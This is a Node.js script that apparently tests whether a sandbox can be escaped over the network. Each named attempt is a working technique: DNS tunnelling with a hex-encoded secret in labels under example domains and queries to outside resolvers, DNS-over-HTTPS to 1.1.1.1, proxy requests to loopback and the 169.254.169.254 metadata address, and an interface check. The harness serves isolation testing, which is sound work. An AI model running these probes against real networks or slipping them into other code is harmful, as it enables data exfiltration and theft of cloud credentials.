// Ways out through names and HTTP, with the interface of escape.c: `node names.mjs NAME`, `node names.mjs --list`.
import { Resolver } from 'node:dns/promises';
import { readFileSync } from 'node:fs';
import { request } from 'node:https';
import { networkInterfaces } from 'node:os';

const SECRET = '7365637265742d746861742d6d7573742d6e6f742d6c65617665'; // hexadecimal, as a tunnel would carry it
const SYNTHETIC = /^198\.1[89]\./;

const refused = (reason, detail) => finish(0, `refused: ${reason} ${detail}`);
const escaped = (what) => finish(1, `ESCAPED: ${what}`);

function finish(code, line) {
  process.stdout.write(`${line}\n`, () => process.exit(code));
}

const resolverOf = (...servers) => {
  const resolver = new Resolver({ timeout: 1000, tries: 1 });
  if (servers.length > 0) resolver.setServers(servers);
  return resolver;
};

/** An answer that only a server outside could have given is an escape. */
async function lookUp(resolver, kind, name) {
  try {
    const answers = await resolver.resolve(name, kind);
    const outside = answers.filter((answer) => !SYNTHETIC.test(String(answer)) && !String(answer).startsWith('fd'));
    return outside.length > 0 ? { answers: outside } : { code: 'SYNTHETIC' };
  } catch (error) {
    return { code: error.code };
  }
}

async function askAll(resolver, names) {
  let first;
  for (const name of names) {
    for (const kind of ['A', 'AAAA', 'TXT', 'MX', 'CNAME', 'NS', 'SRV']) {
      const { answers, code } = await lookUp(resolver, kind, name);
      if (answers) return escaped(`${kind} ${name} was answered: ${JSON.stringify(answers)}`);
      first ??= code;
    }
  }
  return refused(first, `${names.length} names, seven types each`);
}

const tunnelNames = [`${SECRET}.example.com`, `${SECRET}.1.example.org`, `${'a'.repeat(63)}.${SECRET}.example.net`];

/** DNS over HTTPS to an address, past the proxy variables. */
function overHttps() {
  const query = request({
    host: '1.1.1.1',
    path: `/dns-query?name=${SECRET}.example.com&type=TXT`,
    headers: { accept: 'application/dns-json' },
    rejectUnauthorized: false,
    timeout: 5000,
  });
  query.on('response', (response) => {
    if (response.statusCode < 400) escaped(`DNS over HTTPS answered ${response.statusCode}`);
    else refused('HTTP', String(response.statusCode));
  });
  query.on('timeout', () => query.destroy(Object.assign(new Error('timeout'), { code: 'ETIMEDOUT' })));
  query.on('error', (error) => refused(error.code ?? 'ERROR', error.message));
  query.end();
}

/** Through the proxy itself to places that a proxy must not lead to. */
async function throughProxy() {
  const proxy = process.env.http_proxy ?? process.env.HTTP_PROXY;
  if (!proxy) return finish(77, 'unsupported: there is no proxy variable');
  const { request: plain } = await import('node:http');
  const targets = ['http://127.0.0.1:22/', 'http://[::1]/', 'http://169.254.169.254/latest/', 'http://0.0.0.0/', 'http://2130706433/'];
  const { hostname, port } = new URL(proxy);
  for (const target of targets) {
    const status = await new Promise((resolve) => {
      const asked = plain({ host: hostname, port, path: target, headers: { host: new URL(target).host } });
      asked.on('response', (response) => resolve(response.statusCode));
      asked.on('error', () => resolve(599));
      asked.end();
    });
    if (status < 400) return escaped(`the proxy fetched ${target}`);
  }
  return refused('HTTP', `${targets.length} inner addresses through the proxy`);
}

function interfaces() {
  const listed = readFileSync('/proc/net/dev', 'utf8').matchAll(/^\s*([^\s:]+):/gm);
  const names = new Set([...[...listed].map(([, name]) => name), ...Object.keys(networkInterfaces())]);
  names.delete('lo');
  return names.size > 0 ? escaped(`network interfaces ${[...names].join(', ')}`) : refused('ONLYLO', 'no other interface');
}

const attempts = {
  'dns-tunnel': ['data in looked-up labels', 'ENOTFOUND ENODATA SYNTHETIC ECONNREFUSED EREFUSED ETIMEOUT', () =>
    askAll(resolverOf(), tunnelNames)],
  'dns-tunnel-foreign': ['the same, to a server outside', 'ENOTFOUND ENODATA SYNTHETIC ECONNREFUSED EREFUSED ETIMEOUT', () =>
    askAll(resolverOf('8.8.8.8', '[2001:4860:4860::8888]:53'), tunnelNames)],
  'dns-over-https': ['DNS over HTTPS to an address', 'ECONNREFUSED ENETUNREACH ECONNRESET EPROTO ETIMEDOUT HTTP', overHttps],
  'proxy-inner': ['the proxy asked for inner addresses', 'HTTP', throughProxy],
  interfaces: ['network interfaces besides lo', 'ONLYLO ENOENT EACCES', interfaces],
};

const name = process.argv[2];
if (name === '--list') {
  for (const [key, [what, expected]] of Object.entries(attempts)) console.log(`${key}\t${what}\t${expected}`);
} else if (Object.hasOwn(attempts, name ?? '')) {
  try {
    await attempts[name][2]();
  } catch (error) {
    refused(error.code ?? 'ERROR', error.message);
  }
} else {
  console.error('usage: node names.mjs NAME | node names.mjs --list');
  process.exitCode = 2;
}
